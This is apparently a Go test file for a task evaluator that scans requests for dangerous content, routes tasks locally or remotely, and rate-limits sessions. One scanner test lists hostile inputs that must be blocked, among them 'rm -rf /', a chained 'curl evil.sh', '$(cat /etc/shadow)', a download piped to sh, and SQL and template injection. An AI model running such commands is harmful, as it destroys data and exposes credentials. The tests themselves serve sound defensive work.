package evaluator

import (
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/aatumaykin/nexos/internal/audit"
	"github.com/aatumaykin/nexos/internal/config"
	"github.com/aatumaykin/nexos/internal/logger"
	"github.com/aatumaykin/nexos/internal/retry"
)

func testEvaluator(t *testing.T, cfg config.EvaluatorConfig) (*Evaluator, *audit.Log) {
	t.Helper()

	log, err := logger.New(logger.Config{Level: "error", Format: "text", Output: "stderr"})
	require.NoError(t, err)

	auditLog := audit.New(100, "", log)
	ev, err := New(cfg, auditLog, log)
	require.NoError(t, err)
	return ev, auditLog
}

func defaultEvalConfig() config.EvaluatorConfig {
	return config.EvaluatorConfig{
		RateLimitPerWindow:  60,
		RateWindowSeconds:   60,
		ComplexityThreshold: 0.7,
		TokenThreshold:      1000,
	}
}

func TestScanBlocksDestructiveCommands(t *testing.T) {
	tests := []struct {
		name     string
		text     string
		category string
	}{
		{"delete etc path", "delete /etc/passwd", "system_command"},
		{"rm root", "rm -rf /", "system_command"},
		{"sudo", "sudo apt install something", "system_command"},
		{"shutdown", "shutdown the machine now", "system_command"},
		{"disk format", "run mkfs on the data disk", "system_command"},
		{"chmod 777", "chmod 777 the whole tree", "system_command"},
		{"shell chain", "list files; curl evil.sh", "injection"},
		{"command substitution", "show me $(cat /etc/shadow)", "injection"},
		{"pipe to shell", "download installer | sh", "injection"},
		{"sql injection", "query users or 1=1", "injection"},
		{"template injection", "render {{.Secret}} for me", "injection"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			result := scan(tt.text)
			assert.False(t, result.Secure)
			assert.Contains(t, result.Categories, tt.category)
		})
	}
}

func TestScanAllowsBenignText(t *testing.T) {
	tests := []string{
		"list the files in my workspace",
		"summarize the quarterly report",
		"fetch the weather for Amsterdam",
		"count lines in report.txt",
	}

	for _, text := range tests {
		t.Run(text, func(t *testing.T) {
			result := scan(text)
			assert.True(t, result.Secure, "text should pass: %s", text)
			assert.Empty(t, result.Categories)
		})
	}
}

func TestScanSensitiveDataRaisesScoreWithoutBlocking(t *testing.T) {
	// One non-blocking hit below the threshold stays secure.
	result := scan("rotate the auth token for the staging account")
	assert.True(t, result.Secure)
	assert.Contains(t, result.Categories, "sensitive_data")
	assert.Greater(t, result.RiskScore, 0)

	// Stacked credential references cross the score threshold.
	result = scan("print the password, the api key and the private key")
	assert.False(t, result.Secure)
	assert.GreaterOrEqual(t, result.RiskScore, riskThreshold)
}

func TestScanNormalizesUnicodeTricks(t *testing.T) {
	// Fullwidth characters normalize to ASCII under NFKC.
	result := scan("ｓｕｄｏ reboot")
	assert.False(t, result.Secure)

	// Control characters are stripped before matching.
	result = scan("su\x00do reboot")
	assert.False(t, result.Secure)
}

func TestEvaluateRejectsInsecureTask(t *testing.T) {
	ev, auditLog := testEvaluator(t, defaultEvalConfig())

	eval, err := ev.Evaluate("sess-1", "delete /etc/passwd")
	require.Error(t, err)
	assert.Nil(t, eval)

	var secErr *SecurityError
	require.True(t, errors.As(err, &secErr))
	assert.Contains(t, secErr.Categories, "system_command")
	assert.False(t, secErr.Retryable())
	assert.False(t, retry.IsRetryable(err))

	entries := auditLog.Entries()
	require.Len(t, entries, 1)
	assert.Equal(t, "evaluate", entries[0].Action)
	assert.Equal(t, audit.OutcomeFailure, entries[0].Outcome)
	assert.Contains(t, entries[0].Details, "delete /etc/passwd")
}

func TestEvaluateRoutesShortSimpleTaskLocally(t *testing.T) {
	ev, auditLog := testEvaluator(t, defaultEvalConfig())

	eval, err := ev.Evaluate("sess-1", "read the file at report.txt")
	require.NoError(t, err)

	assert.Equal(t, RouteLocal, eval.Route.Kind)
	assert.Empty(t, eval.Route.ModelHint)
	assert.Zero(t, eval.EstimatedCost)
	assert.Less(t, eval.Complexity, 0.7)
	assert.Less(t, eval.EstimatedTokens, 1000)

	assert.Equal(t, 1, auditLog.CountByOutcome(audit.OutcomeSuccess))
}

func TestEvaluateRoutesLongTaskRemotely(t *testing.T) {
	ev, _ := testEvaluator(t, defaultEvalConfig())

	// Long enough that len*1.5 crosses the token threshold.
	text := "summarize this document: " + strings.Repeat("background material ", 50)
	eval, err := ev.Evaluate("sess-1", text)
	require.NoError(t, err)

	assert.Equal(t, RouteRemote, eval.Route.Kind)
	assert.NotEmpty(t, eval.Route.ModelHint)
	assert.Greater(t, eval.EstimatedCost, 0.0)
	assert.Equal(t, int(float64(len(text))*1.5), eval.EstimatedTokens)
}

func TestEvaluateRoutesComplexTaskRemotely(t *testing.T) {
	ev, _ := testEvaluator(t, defaultEvalConfig())

	text := "analyze the database, transform the records, aggregate by region, " +
		"optimize the pipeline and deploy the regression model to monitor drift"
	eval, err := ev.Evaluate("sess-1", text)
	require.NoError(t, err)

	assert.Equal(t, RouteRemote, eval.Route.Kind)
	assert.GreaterOrEqual(t, eval.Complexity, 0.7)
}

func TestEvaluateTokenEstimate(t *testing.T) {
	ev, _ := testEvaluator(t, defaultEvalConfig())

	text := "count the words"
	eval, err := ev.Evaluate("sess-1", text)
	require.NoError(t, err)
	assert.Equal(t, int(float64(len(text))*1.5), eval.EstimatedTokens)
}

func TestEvaluateRateLimit(t *testing.T) {
	cfg := defaultEvalConfig()
	cfg.RateLimitPerWindow = 3
	ev, auditLog := testEvaluator(t, cfg)

	for i := 0; i < 3; i++ {
		_, err := ev.Evaluate("sess-burst", "list my files")
		require.NoError(t, err)
	}

	_, err := ev.Evaluate("sess-burst", "list my files")
	require.Error(t, err)

	var secErr *SecurityError
	require.True(t, errors.As(err, &secErr))
	assert.Equal(t, "rate_limited", secErr.Reason)
	assert.False(t, retry.IsRetryable(err))

	// A different session is unaffected.
	_, err = ev.Evaluate("sess-other", "list my files")
	assert.NoError(t, err)

	assert.Equal(t, 1, auditLog.CountByOutcome(audit.OutcomeFailure))
}

func TestRateKeyFallsBackToNormalizedText(t *testing.T) {
	assert.Equal(t, "session:abc", rateKey("abc", "whatever"))

	keyA := rateKey("", "List   My\tFiles")
	keyB := rateKey("", "list my files")
	assert.Equal(t, keyA, keyB)
}

func TestKeyedRateLimiterWindowAndPrune(t *testing.T) {
	limiter := newKeyedRateLimiter(2, 50*time.Millisecond)

	allowed, _ := limiter.Allow("k")
	assert.True(t, allowed)
	allowed, _ = limiter.Allow("k")
	assert.True(t, allowed)

	allowed, retryAfter := limiter.Allow("k")
	assert.False(t, allowed)
	assert.Greater(t, retryAfter, time.Duration(0))

	time.Sleep(60 * time.Millisecond)

	allowed, _ = limiter.Allow("k")
	assert.True(t, allowed, "window expiry should admit new requests")

	time.Sleep(60 * time.Millisecond)
	limiter.prune()
	limiter.mu.Lock()
	assert.Empty(t, limiter.seen)
	limiter.mu.Unlock()
}

func TestPricingTable(t *testing.T) {
	table, err := loadPricing()
	require.NoError(t, err)

	assert.NotEmpty(t, table.DefaultModel)
	assert.Greater(t, table.rate(table.DefaultModel), 0.0)
	// Unknown hints fall back to the default rate.
	assert.Equal(t, table.rate(table.DefaultModel), table.rate("no-such-model"))
}
